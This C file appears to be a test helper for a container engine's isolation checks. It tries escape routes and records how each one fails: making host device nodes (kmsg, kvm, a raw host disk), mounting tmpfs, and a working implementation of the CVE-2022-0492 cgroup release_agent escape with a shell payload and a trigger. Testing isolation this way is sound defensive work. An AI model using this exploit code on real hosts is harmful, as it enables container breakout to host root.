/* SPDX-License-Identifier: MIT */
/* probe_dev.c: static helper run inside containers by escape_dev.sh: device nodes and the cgroup release_agent, one attempt a line with how it failed. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include "probe.h"

/* argv: the host pid of this container's init (the release agent is looked up from the host, as
 * /proc/PID/root/...: an attacker would find it by trying pids), a host path for the agent to
 * write, and a marker for /dev/kmsg. */
static const char *init_host_pid, *host_mark, *kmsg_mark;

static char result[256];

static const char *failed(const char *step, int e)
{
	if (step)
		snprintf(result, sizeof(result), "%s:%s", step, probe_errno(e));
	else
		snprintf(result, sizeof(result), "%s", probe_errno(e));
	return result;
}

/* mknod path, then open it with flags: the fd, or -1 with result set to the failed step. */
static int make_and_open(const char *path, mode_t type, dev_t dev, int flags)
{
	int fd, e;

	unlink(path);
	if (mknod(path, type | 0600, dev) < 0)
		return failed("mknod", errno), -1;
	fd = open(path, flags | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
	e = errno;
	unlink(path);
	if (fd < 0)
		return failed("open", e), -1;
	return fd;
}

/* Write the marker into the host's kernel log, and read it. */
static const char *kmsg_in(const char *dir)
{
	char path[128], line[160], buf[256];
	int fd;
	ssize_t w, r;

	snprintf(path, sizeof(path), "%s/kmsg", dir);
	fd = make_and_open(path, S_IFCHR, makedev(1, 11), O_WRONLY);
	if (fd < 0)
		return result;
	snprintf(line, sizeof(line), "%s\n", kmsg_mark);
	w = write(fd, line, strlen(line));
	close(fd);
	if (w > 0)
		return "ESCAPED";
	fd = make_and_open(path, S_IFCHR, makedev(1, 11), O_RDONLY);
	if (fd < 0)
		return result;
	r = read(fd, buf, sizeof(buf));
	close(fd);
	return r > 0 ? "ESCAPED" : failed("read", errno);
}

static const char *mknod_kmsg(void) { return kmsg_in("/dev"); }

/* Opened at all is out: kvm (VM ioctls), a host virtual console. */
static const char *open_char(const char *path, unsigned int major, unsigned int minor)
{
	int fd = make_and_open(path, S_IFCHR, makedev(major, minor), O_RDWR);

	if (fd < 0)
		return result;
	close(fd);
	return "ESCAPED";
}

static const char *mknod_kvm(void) { return open_char("/dev/kvm", 10, 232); }
static const char *mknod_tty(void) { return open_char("/dev/tty1", 4, 1); }

/* The first block device of /proc/partitions (a real disk of the host), else sda. */
static dev_t host_disk(void)
{
	FILE *f = fopen("/proc/partitions", "re");
	unsigned int major, minor;
	char line[256];
	dev_t dev = makedev(8, 0);

	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, " %u %u", &major, &minor) == 2) {
			dev = makedev(major, minor);
			break;
		}
	if (f)
		fclose(f);
	return dev;
}

static const char *mknod_disk(void)
{
	dev_t dev = host_disk();
	char buf[512];
	int fd = make_and_open("/dev/disk0", S_IFBLK, dev, O_RDONLY);
	ssize_t r;

	printf("# mknod_disk: b %u:%u\n", major(dev), minor(dev));
	if (fd < 0)
		return result;
	r = read(fd, buf, sizeof(buf));
	close(fd);
	return r > 0 ? "ESCAPED" : failed("read", errno);
}

/* An allowed node (null) made in /dev: the mount must refuse to open it (nodev). */
static const char *nodev_dev(void)
{
	int fd = make_and_open("/dev/null2", S_IFCHR, makedev(1, 3), O_WRONLY);

	if (fd < 0)
		return result;
	close(fd);
	return "opened";
}

/* Open path and move one byte; ENOSPC is what /dev/full says. */
static bool use_node(const char *path, bool wr)
{
	char c = 0;
	int fd = open(path, (wr ? O_WRONLY : O_RDONLY) | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return failed(path, errno), false;
	n = wr ? write(fd, &c, 1) : read(fd, &c, 1);
	if (n != 1 && !(wr && errno == ENOSPC)) {
		failed(path, errno);
		close(fd);
		return false;
	}
	close(fd);
	return true;
}

/* A new pty from the container's ptmx and its slave under /dev/pts. */
static bool use_pty(void)
{
	int master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC), unlock = 0, n, slave;
	char path[64];

	if (master < 0)
		return failed("/dev/ptmx", errno), false;
	if (ioctl(master, TIOCSPTLCK, &unlock) < 0 || ioctl(master, TIOCGPTN, &n) < 0) {
		failed("ptmx-ioctl", errno);
		close(master);
		return false;
	}
	snprintf(path, sizeof(path), "/dev/pts/%d", n);
	slave = open(path, O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (slave < 0)
		failed("/dev/pts/N", errno);
	close(master);
	if (slave < 0)
		return false;
	close(slave);
	return true;
}

static const char *open_allowed(void)
{
	if (use_node("/dev/null", true) && use_node("/dev/zero", false) && use_node("/dev/full", true) &&
	    use_node("/dev/random", false) && use_node("/dev/urandom", false) && use_pty())
		return "ok";
	return result;
}

/* A fresh tmpfs (no nodev: needs SYS_ADMIN) at /tmp/devt; false with result set. */
static bool fresh_tmpfs(void)
{
	mkdir("/tmp/devt", 0755);
	if (mount("devt", "/tmp/devt", "tmpfs", 0, "mode=755") < 0)
		return failed("mount", errno), false;
	return true;
}

static const char *tmpfs_mknod(void)
{
	const char *r;

	if (!fresh_tmpfs())
		return result;
	r = kmsg_in("/tmp/devt");
	umount2("/tmp/devt", MNT_DETACH);
	return r;
}

static const char *tmpfs_allowed(void)
{
	int fd;

	if (!fresh_tmpfs())
		return result;
	fd = make_and_open("/tmp/devt/null", S_IFCHR, makedev(1, 3), O_WRONLY);
	umount2("/tmp/devt", MNT_DETACH);
	if (fd < 0)
		return result;
	close(fd);
	return "ok";
}

/* Every line of /proc/self/cgroup at "/": the process is at its cgroup namespace root everywhere. */
static const char *cgroup_self(void)
{
	FILE *f = fopen("/proc/self/cgroup", "re");
	char line[512];
	int lines = 0, outside = 0;

	while (f && fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\n")] = '\0';
		lines++;
		if (strcmp(strrchr(line, ':'), ":/")) {
			printf("# cgroup_self: %s\n", line);
			outside++;
		}
	}
	if (f)
		fclose(f);
	if (!lines)
		return "unreadable";
	snprintf(result, sizeof(result), outside ? "outside:%d" : "own", outside);
	return result;
}

/* What is at /sys/fs/cgroup inside: whatever it is, no release_agent or notify_on_release there
 * may be written. */
static const char *cgroup_fs(void)
{
	const char *files[] = { "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/notify_on_release",
				"/sys/fs/cgroup/devices/release_agent", "/sys/fs/cgroup/systemd/release_agent" };
	int e = 0;

	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
		int fd = open(files[i], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

		if (fd >= 0) {
			close(fd);
			return "ESCAPED";
		}
		e = e ? e : errno;
	}
	return failed(NULL, e);
}

/* --- release_agent (CVE-2022-0492): a v1 hierarchy mounted inside, its root's release_agent set to
 * a file of ours, notify_on_release, a group emptied: the kernel runs the agent as host root. */

#define MAX_HIER 48
static char hier[MAX_HIER][128];	/* mount options of each hierarchy to try */
static size_t n_hier;
static char agent[128];			/* the payload as the host sees it */
static char tokens[512];		/* how each hierarchy failed, each way once */

static void add_hier(const char *opts)
{
	for (size_t i = 0; i < n_hier; i++)
		if (!strcmp(hier[i], opts))
			return;
	if (n_hier < MAX_HIER)
		snprintf(hier[n_hier++], sizeof(hier[0]), "%s", opts);
}

/* Each v1 line of /proc/self/cgroup ("4:memory:/", "9:name=systemd:/"), each enabled controller
 * that no hierarchy holds (/proc/cgroups), name=systemd, and a new named hierarchy. */
static void list_hierarchies(void)
{
	char line[512], name[64], opts[160];
	FILE *f = fopen("/proc/self/cgroup", "re");
	int id, on;

	while (f && fgets(line, sizeof(line), f)) {
		char *a = strchr(line, ':'), *b = a ? strchr(a + 1, ':') : NULL;

		if (!b || b == a + 1)
			continue;	/* "0::/": the unified tree */
		*b = '\0';
		snprintf(opts, sizeof(opts), "%s%s", strncmp(a + 1, "name=", 5) ? "" : "none,", a + 1);
		add_hier(opts);
	}
	if (f)
		fclose(f);
	f = fopen("/proc/cgroups", "re");
	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "%63s %d %*d %d", name, &id, &on) == 3 && id == 0 && on)
			add_hier(name);
	if (f)
		fclose(f);
	add_hier("none,name=systemd");
	add_hier("none,name=cengine-escape");
}

static void add_token(const char *t)
{
	char padded[80];

	snprintf(padded, sizeof(padded), ",%s,", t);
	if (strstr(tokens, padded))
		return;
	snprintf(tokens + strlen(tokens), sizeof(tokens) - strlen(tokens), "%s,", t);
}

/* tokens ",A,B," as "A,B" */
static const char *token_list(void)
{
	size_t n = strlen(tokens);

	snprintf(result, sizeof(result), "%.*s", n > 2 ? (int)(n - 2) : 0, tokens + 1);
	return result[0] ? result : "none";
}

static void write_str(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0 || write(fd, s, strlen(s)) < 0)
		printf("# write %s: %s\n", path, probe_errno(errno));
	if (fd >= 0)
		close(fd);
}

/* The payload /name in our root, and its path from the host: /proc/<init's host pid>/root/name
 * (one name per attempt: what one attempt set is not taken for the other's). */
static void prepare(const char *name)
{
	char path[64];
	FILE *f;

	snprintf(path, sizeof(path), "/%s", name);
	f = fopen(path, "we");
	if (f) {
		fprintf(f, "#!/bin/sh\necho \"release agent ran as uid $(id -u) for $1\" > %s\n", host_mark);
		fclose(f);
	}
	chmod(path, 0755);
	snprintf(agent, sizeof(agent), "/proc/%s/root/%s", init_host_pid, name);
	n_hier = 0;
	tokens[0] = ',', tokens[1] = '\0';
	list_hierarchies();
}

/* notify_on_release on a new group, a process that joins it and exits: the release agent of the
 * hierarchy (whatever it is now) runs with the group's path. */
static void trigger(const char *dir)
{
	char sub[192], path[224];
	pid_t pid;

	snprintf(sub, sizeof(sub), "%s/cengine-escape", dir);
	if (mkdir(sub, 0755) < 0) {
		printf("# trigger in %s: mkdir: %s\n", dir, probe_errno(errno));
		return;
	}
	snprintf(path, sizeof(path), "%s/notify_on_release", sub);
	write_str(path, "1");
	snprintf(path, sizeof(path), "%s/cgroup.procs", sub);
	pid = fork();
	if (pid == 0) {
		write_str(path, "0");
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	for (int i = 0; i < 1000 && rmdir(sub) < 0 && errno == EBUSY; i++)
		usleep(1000);	/* the exited task leaves the group a moment later */
}

static int mount_hier(size_t i, const char *extra, char *dir, size_t n)
{
	char opts[256];

	snprintf(dir, n, "/tmp/cg%zu", i);
	snprintf(opts, sizeof(opts), "%s%s", hier[i], extra);
	mkdir(dir, 0755);
	return mount("cgroup", dir, "cgroup", 0, opts);
}

/* Write release_agent at the root of each hierarchy mounted here. */
static const char *agent_file(void)
{
	char dir[64], path[96];
	int fd;

	prepare("agent.sh");
	for (size_t i = 0; i < n_hier; i++) {
		if (mount_hier(i, "", dir, sizeof(dir)) < 0) {
			printf("# release_agent -o %s: mount: %s\n", hier[i], probe_errno(errno));
			add_token(failed("mount", errno));
			continue;
		}
		snprintf(path, sizeof(path), "%s/release_agent", dir);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 && write(fd, agent, strlen(agent)) > 0)
			add_token("ESCAPED");
		else
			add_token(failed(fd < 0 ? NULL : "write", errno));
		printf("# release_agent -o %s: mounted, its root's release_agent: %s\n", hier[i],
		       fd < 0 ? probe_errno(errno) : "opened");
		if (fd >= 0)
			close(fd);
		trigger(dir);
		umount2(dir, MNT_DETACH);
	}
	return token_list();
}

/* Does the mount at dir show our agent in its options (the hierarchy's release_agent)? */
static bool agent_shown(const char *dir)
{
	FILE *f = fopen("/proc/self/mountinfo", "re");
	char line[1024], point[64];
	bool shown = false;

	snprintf(point, sizeof(point), " %s ", dir);
	while (f && !shown && fgets(line, sizeof(line), f))
		shown = strstr(line, point) && strstr(line, agent);
	if (f)
		fclose(f);
	return shown;
}

/* The release_agent= mount option: on a new mount, then by remount. */
static const char *agent_option(void)
{
	char dir[64], extra[160];

	prepare("agent-option.sh");
	snprintf(extra, sizeof(extra), ",release_agent=%s", agent);
	for (size_t i = 0; i < n_hier; i++) {
		if (mount_hier(i, extra, dir, sizeof(dir)) == 0) {
			add_token(agent_shown(dir) ? "ESCAPED" : "ignored");
		} else {
			add_token(failed("mount", errno));
			if (mount_hier(i, "", dir, sizeof(dir)) < 0)
				continue;	/* nothing to remount */
		}
		if (mount(NULL, dir, "cgroup", MS_REMOUNT, extra + 1) < 0)
			add_token(failed("remount", errno));
		else
			add_token(agent_shown(dir) ? "ESCAPED" : "remount:ignored");
		trigger(dir);
		umount2(dir, MNT_DETACH);
	}
	return token_list();
}

static const struct probe_attempt attempts[] = {
	{ "mknod_kmsg", mknod_kmsg }, { "mknod_kvm", mknod_kvm }, { "mknod_tty", mknod_tty },
	{ "mknod_disk", mknod_disk }, { "nodev_dev", nodev_dev }, { "open_allowed", open_allowed },
	{ "tmpfs_mknod", tmpfs_mknod }, { "tmpfs_allowed", tmpfs_allowed }, { "cgroup_self", cgroup_self },
	{ "cgroup_fs", cgroup_fs }, { "release_agent", agent_file }, { "agent_option", agent_option },
};

int main(int argc, char **argv)
{
	if (argc < 5) {
		fprintf(stderr, "usage: %s ATTEMPT|all INIT_HOST_PID HOST_MARK KMSG_MARK\n", argv[0]);
		return 2;
	}
	init_host_pid = argv[2], host_mark = argv[3], kmsg_mark = argv[4];
	signal(SIGPIPE, SIG_IGN);
	probe_run(attempts, PROBE_N(attempts), argv[1]);
	return 0;
}
